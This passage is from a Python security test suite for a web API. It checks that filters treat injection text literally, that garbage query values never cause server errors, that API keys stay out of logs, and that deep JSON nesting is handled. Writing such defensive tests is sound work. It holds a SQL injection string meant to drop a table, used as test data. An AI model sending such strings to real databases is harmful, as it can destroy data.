    api = fresh().api
    _ok(api.post("/accounts/custom-field", json={"label": "Note", "labelType": "singleLineText"}))
    names = [*INJECTIONS.values(), "plain", "50 off", "a_b", "ab", "axb"]
    accounts = [
        {
            "domain": f"n{n}.example.com",
            "name": name,
            "tags": [name[:100]],
            "customFields": {"NOTE_C": name},
        }
        for n, name in enumerate(names)
    ]
    _ok(api.post("/accounts", json={"accounts": accounts}))
    for text in [*INJECTIONS.values(), "a_b", "%%", "\\%"]:
        for rule, expected in [
            ({"field": "name", "op": "contains", "value": text}, [n for n in names if text in n]),
            ({"field": "name", "op": "eq", "value": text}, [n for n in names if n == text]),
            (
                {"field": "name", "op": "starts_with", "value": text},
                [n for n in names if n.startswith(text)],
            ),
            (
                {"field": "customFields.NOTE_C", "op": "contains", "value": text},
                [n for n in names if text in n],
            ),
            (
                {"field": "tags", "op": "contains", "value": text},
                [n for n in names if n[:100] == text],
            ),
        ]:
            r = api.post("/segments/preview", json={"rules": rule, "sampleSize": 100})
            got = _ok(r)
            assert got["count"] == len(expected), (rule, got["count"], expected)
            assert sorted(x["name"] for x in got["sample"]) == sorted(expected), rule
    # A dynamic segment holds the same members as its preview said.
    seg = _ok(
        api.post(
            "/segments",
            json={
                "name": "percent",
                "type": "dynamic",
                "rules": {"field": "name", "op": "contains", "value": "%"},
            },
        )
    )
    members = _ok(api.get(f"/segments/{seg['segmentId']}/accounts", params={"limit": 1000}))
    assert sorted(x["name"] for x in members["data"]) == sorted(n for n in names if "%" in n)


QUERY_GARBAGE = [
    *INJECTIONS.values(),
    "",
    " ",
    "-1",
    "0",
    "1e309",
    "9" * 40,
    "null",
    "[]",
    '["%"]',
    "\u0660",
    "2024-13-45T99:99:99Z",
    "%00",
]


@pytest.mark.parametrize(
    "op",
    [o for o in LISTS + WITH_IDS if o.method == "GET" and o.query and o.mount == MOUNTS[0]],
    ids=str,
)
def test_query_parameters_take_any_text_without_failing(world: World, op: Op) -> None:
    """Every filter of every list, given injection-shaped or garbage text: a 400 that names
    the parameter, or a page that matches nothing (A holds none of these values)."""
    path = world.fill(op)
    base = {"asOf": "2024-06-01"} if op.rel == "/scoring/backtest" else {}
    for name in op.query:
        for value in QUERY_GARBAGE:
            r = world.a.api.under("").get(path, params={**base, name: value})
            assert r.status_code in (200, 400), (name, value, r.text[:300])
            body = r.json()
            assert body["statusCode"] == r.status_code and body["path"] == path
            if r.status_code == 400:
                assert name.lower() in r.text.lower() or (
                    name == "cursor" and body.get("customMessage") == "Invalid cursor"
                ), (name, value, r.text[:300])
                continue
            if name in ("limit", "horizonDays", "asOf", "status") or not value.strip():
                continue  # not a text filter (or no filter): a valid value pages or widens
            data = body["data"]
            items = data["data"] if isinstance(data, dict) and "data" in data else data
            assert items in ([], None) or not isinstance(items, list), (name, value, items)


@pytest.mark.parametrize("mount", MOUNTS)
def test_account_filters_take_injection_text(world: World, mount: str) -> None:
    api = world.a.api.under(mount)
    for value in INJECTIONS.values():
        for params in (
            {"domains": value},
            {"domains": f'["{value}"]'},
            {"domains": f"a-one.example.com,{value}"},
            {"lastSync": value},
            {"cursor": value},
            {"limit": value},
        ):
            r = api.get("/accounts", params=params)
            assert r.status_code in (200, 400), (params, r.text[:300])
            if r.status_code == 200:
                names = [x["name"] for x in r.json()["data"]["data"]]
                assert all(n.endswith(" One") for n in names), (params, names)


def test_reject_filters_match_literally(world: World, sweep_app: Any) -> None:
    """Filters compare whole values: a `%` reason is only the reject with that reason."""
    engine = sweep_app.state.intently.engine
    ws = new_workspace(world.client, engine, "sec-rej")
    run = IngestRun(engine, ws.id, "g2", "file", "inj.csv")
    reasons = ["%", "_", "\\", "plain_reason", "'; DROP TABLE accounts; --"]
    for n, reason in enumerate(reasons):
        run.reject(reason, reason, {"row": reason}, line=n)
    run.finish()
    for reason in [*reasons, "%%", "plain%", "plain_reaso_", "PLAIN_REASON"]:
        r = ws.api.get("/ingest/rejects", params={"reason": reason, "status": "all"})
        got = [x["reason"] for x in _ok(r)["data"]]
        assert got == [reason for _ in got] and len(got) == reasons.count(reason), (reason, got)
    r = ws.api.get("/ingest/rejects", params={"source": "%", "status": "all"})
    assert _ok(r)["data"] == []


# ---- no key in the logs ----------------------------------------------------------------------


@dataclass
class Logged:
    url: str
    log: Path


def _serve_logged(database_url: str, log: Path, **env: str) -> Any:
    """`intently serve` with its stdout and stderr going to `log`."""
    port = free_port()
    out = log.open("wb")
    proc = subprocess.Popen(
        [sys.executable, "-m", "intently", "serve", "--port", str(port)],
        env=dict(
            os.environ,
            INTENTLY_DATABASE_URL=database_url,
            INTENTLY_WEBHOOK_DISPATCH="false",
            INTENTLY_RATE_LIMIT_ANONYMOUS_PER_MINUTE="0",
            **env,
        ),
        stdout=out,
        stderr=subprocess.STDOUT,
    )
    out.close()
    url = f"http://127.0.0.1:{port}"
    deadline = time.monotonic() + 30
    while True:
        try:
            if httpx.get(url + "/healthz", timeout=1).status_code == 200:
                return proc, url
        except httpx.TransportError:
            pass
        if proc.poll() is not None or time.monotonic() > deadline:
            proc.kill()
            raise RuntimeError(f"server did not start: {log.read_text()[-2000:]}")
        time.sleep(0.1)


def _stop(proc: subprocess.Popen[bytes]) -> None:
    proc.send_signal(signal.SIGTERM)
    try:
        proc.wait(timeout=15)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait()


@pytest.mark.parametrize("log_format", ["json", "text"])
def test_no_key_in_the_server_logs(
    database_url: str, sweep_app: Any, tmp_path: Path, log_format: str
) -> None:
    engine = sweep_app.state.intently.engine
    name = f"sec-log-{uuid.uuid4().hex[:10]}"
    key = generate_key(engine, name, "log@example.com")
    wrong = "itly_" + uuid.uuid4().hex + "WRONG"
    wrong_write = "itlyw_" + uuid.uuid4().hex
    log = tmp_path / "server.log"
    proc, url = _serve_logged(
        database_url, log, INTENTLY_LOG_FORMAT=log_format, INTENTLY_LOG_LEVEL="DEBUG"
    )
    try:
        with httpx.Client(base_url=url, timeout=10) as c:
            good = {"X-Api-Key": key}
            write_key = c.get("/api/v1/website", headers=good).json()["data"]["writeKey"]
            assert write_key.startswith("itlyw_")
            calls: list[tuple[str, str, dict[str, Any]]] = [
                ("GET", "/api/v1/accounts", {"headers": good}),
                (
                    "POST",
                    "/api/v1/accounts",
                    {
                        "headers": good,
                        "json": {"accounts": [{"domain": "log.example.com", "name": "L"}]},
                    },
                ),
                ("GET", f"/api/v1/accounts/{UNKNOWN_ID}", {"headers": good}),
                ("GET", "/api/v1/accounts/not-an-id", {"headers": good}),
                ("GET", "/api/v1/accounts", {"headers": good, "params": {"cursor": "garbage"}}),
                ("GET", "/api/v1/accounts", {"headers": good, "params": {"limit": "0"}}),
                (
                    "POST",
                    "/api/v1/accounts",
                    {"headers": {**good, "Content-Type": "application/json"}, "content": b"{"},
                ),
                ("POST", "/api/v1/accounts", {"headers": good, "json": {"accounts": "x"}}),
                (
                    "POST",
                    "/api/v1/accounts",
                    {"headers": {**good, "Content-Type": "text/plain"}, "content": b"{}"},
                ),
                (
                    "POST",
                    "/api/v1/accounts",
                    {
                        "headers": {**good, "Content-Type": "application/json"},
                        "content": _big(1024 * 1024 + 1),
                    },
                ),
                ("POST", "/api/v1/accounts", {"headers": good, "json": {"x": _nested(50_000)}}),
                ("GET", "/api/v1/no-such-route", {"headers": good}),
                ("GET", "/api/v1/accounts", {"headers": {"X-Api-Key": wrong}}),
                ("POST", "/api/v1/segments", {"headers": {"X-Api-Key": wrong}, "json": {}}),
                ("GET", "/api/v1/accounts", {"params": {"X-Api-Key": key}}),
                ("GET", "/api/v1/accounts", {"params": {"apiKey": key, "key": wrong}}),
                ("GET", "/api/v1/accounts", {"headers": good, "params": {"X-Api-Key": key}}),
                ("GET", "/api/v1/accounts", {"headers": {"Authorization": f"Bearer {key}"}}),
                ("GET", "/t.js", {"params": {"k": write_key}}),
                ("GET", "/t.js", {"params": {"k": wrong_write}}),
                (
                    "POST",
                    "/v1/track",
                    {"auth": (write_key, ""), "json": {"event": "Signed Up", "anonymousId": "a1"}},
                ),
                (
                    "POST",
                    "/v1/page",
                    {
                        "json": {
                            "writeKey": write_key,
                            "anonymousId": "a1",
                            "properties": {"url": "https://x.example/p"},
                        }
                    },
                ),
                (
                    "POST",
                    "/v1/track",
                    {"auth": (wrong_write, ""), "json": {"event": "E", "anonymousId": "a1"}},
                ),
                ("POST", "/v1/batch", {"json": {"writeKey": wrong_write, "batch": "nope"}}),
                ("GET", "/healthz", {"params": {"X-Api-Key": key}}),
                ("GET", "/app/", {"params": {"k": key}}),
            ]
            statuses = set()
            for method, path, kw in calls:
                statuses.add(c.request(method, path, **kw).status_code)
            # The sweep did reach the failures it means to log.
            assert {200, 400, 401, 404, 413, 415} <= statuses, statuses
    finally:
        _stop(proc)
    text = log.read_text(errors="replace")
    for secret in (key, wrong, write_key, wrong_write, key[12:], write_key[7:]):
        assert secret not in text, f"a key appears in the server log: ...{secret[-6:]}"
    # The access log holds the requests above, so the check looked at real request lines.
    assert "/api/v1/accounts" in text and "/v1/track" in text, text[-2000:]


def test_nesting_near_the_largest_depth_setting_is_never_500(database_url: str) -> None:
    """max_json_depth may be set up to 1000: bodies around that depth, and rules nested
    that deep, get an answer (200 or 400), never a RecursionError's 500."""
    if not _depth_check_exists():
        pytest.skip(NO_DEPTH_CHECK)
    app = create_app(Settings(database_url=database_url, max_json_depth=1000, **NO_LIMITS))
    try:
        client = TestClient(app, raise_server_exceptions=False)
        ws = new_workspace(client, app.state.intently.engine, "sec-depth")
        headers = {"Content-Type": "application/json"}
        leaf = '{"field": "name", "op": "eq", "value": "x"}'
        for depth in (990, 998, 999, 1000, 1001, 1002):
            rule = '{"not": ' * depth + leaf + "}" * depth
            for method, path, raw in [
                ("POST", "/accounts", '{"deep": ' + _nested(depth) + "}"),
                ("POST", "/segments/preview", '{"rules": ' + rule + "}"),
                ("POST", "/segments", '{"name": "d", "type": "dynamic", "rules": ' + rule + "}"),
                (
                    "PUT",
                    "/stages",
                    '{"stages": [{"name": "X", "rule": ' + rule + '}, {"name": "Y"}]}',
                ),
            ]:
                r = ws.api.request(method, path, content=raw.encode(), headers=headers)
                assert r.status_code in (200, 201, 400), (depth, path, r.text[:300])
                assert r.json()["statusCode"] == r.status_code
    finally:
        app.state.intently.engine.dispose()


def test_dashboard_search_and_filters_take_injection_text(
    sweep: TestClient, sweep_app: Any
) -> None:
    """The dashboard's account search (`q`, a prefix of the name or domain) and its text
    filters: wildcards match themselves, and no text is a 500."""
    engine = sweep_app.state.intently.engine
    ws = new_workspace(sweep, engine, "sec-web")
    names = [*INJECTIONS.values(), "plain", "50 off", "a_b", "ab"]
    accounts = [
        {"domain": f"n{n}.example.com", "name": name, "tags": [name[:100]]}
        for n, name in enumerate(names)
    ]
    results = _ok(ws.api.post("/accounts", json={"accounts": accounts}))["results"]
    ids = {r["rtp_aid"]: names[r["index"]] for r in results}
    board = new_dashboard(sweep_app, engine, ws, "admin")
    link = re.compile(r'href="/app/accounts/([0-9a-f]{24})"')
    for text in [*INJECTIONS.values(), "a_b", "%%", "5", "_b"]:
        for name, value in (("q", text), ("tag", text), ("source", text), ("stage", text)):
            r = board.get("/app/accounts", params={name: value})
            # A source or stage that does not exist, or text over 200 characters, is a 400
            # page saying so.
            if len(value) > 200 or (r.status_code == 400 and name in ("source", "stage")):
                assert r.status_code == 400 and f"{name} " in r.text, (name, r.text[:300])
                continue
            assert r.status_code == 200, (name, value, r.text[:300])
            shown = {ids[a] for a in link.findall(r.text) if a in ids}
            want = value.strip().lower()
            if name == "q" and want:
                expected = {n for n in names if n.lower().startswith(want)}
            elif name == "tag" and want:
                expected = {n for n in names if n[:100] == value.strip()}
            elif want:
                expected = set()
            else:
                expected = set(names)
            assert shown == expected, (name, value, shown)
